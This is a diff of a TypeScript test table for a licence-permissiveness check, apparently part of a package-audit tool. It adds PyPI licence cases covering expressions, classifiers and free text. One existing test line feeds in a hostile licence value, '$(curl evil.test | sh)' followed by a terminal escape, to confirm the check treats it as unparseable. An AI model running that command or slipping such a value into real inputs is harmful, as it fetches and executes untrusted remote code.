@@ -1,8 +1,12 @@
 import check from '../../src/checks/license-permissiveness.js';
 import { evidence } from '../support/evidence-builder.js';
+import type { PypiLicense } from '../../src/evidence/schema.js';
+import { pypiEvidence } from '../support/pypi-evidence.js';
 import { checkTable } from './check-table.js';
 
 const declared = (license: string | null) => evidence({ registry: { license } });
+const NO_LICENSE: PypiLicense = { expression: null, classifiers: [], text: null, spdx: null, source: null, files: null };
+const pypiLicensed = (license: Partial<PypiLicense>) => pypiEvidence({ pypi: { license: { ...NO_LICENSE, ...license } } });
 
 checkTable(check, [
   { name: 'MIT', evidence: declared('MIT'), score: 100, messageId: 'permissive', data: { class: 'permissive', license: 'MIT' } },
@@ -43,4 +47,36 @@ checkTable(check, [
   { name: 'no licence', evidence: declared(null), score: 25, messageId: 'none', message: ['all rights reserved by default'] },
   { name: 'unparseable', evidence: declared('Public Domain'), score: 25, messageId: 'unparseable' },
   { name: 'hostile', evidence: declared('$(curl evil.test | sh) \u001b[2J'), score: 25, messageId: 'unparseable' },
+  // PyPI: the expression, else the mapped id, else the classifiers' class.
+  { name: 'PyPI: Apache-2.0 expression', evidence: pypiLicensed({ expression: 'Apache-2.0' }), score: 100, messageId: 'permissive', data: { license: 'Apache-2.0' } },
+  { name: 'PyPI: LGPL mapped from a classifier', evidence: pypiLicensed({ spdx: 'LGPL-3.0-only', source: 'classifier' }), score: 80, messageId: 'weak-copyleft' },
+  {
+    name: 'PyPI: BSD License classifier (no single SPDX id) is still permissive',
+    evidence: pypiLicensed({ classifiers: ['License :: OSI Approved :: BSD License'] }),
+    score: 100,
+    messageId: 'classifier',
+    data: { class: 'permissive', classifiers: ['License :: OSI Approved :: BSD License'], license: null },
+  },
+  {
+    name: 'PyPI: several classifiers: the worst class they name',
+    evidence: pypiLicensed({
+      text: 'see the LICENSE file for the licences of each part of this project',
+      classifiers: ['License :: OSI Approved :: MIT License', 'License :: OSI Approved :: GNU General Public License v3 (GPLv3)'],
+    }),
+    score: 60,
+    messageId: 'classifier',
+    data: { class: 'strong-copyleft' },
+  },
+  {
+    name: 'PyPI: free text without classifiers',
+    evidence: pypiLicensed({ text: 'Copyright (c) Example Corp. All rights reserved.' }),
+    score: 25,
+    messageId: 'unparseable',
+  },
+  {
+    name: 'PyPI: a classifier naming no licence family falls back to the text',
+    evidence: pypiLicensed({ classifiers: ['License :: OSI Approved'] }),
+    score: 25,
+    messageId: 'none',
+  },
 ]);
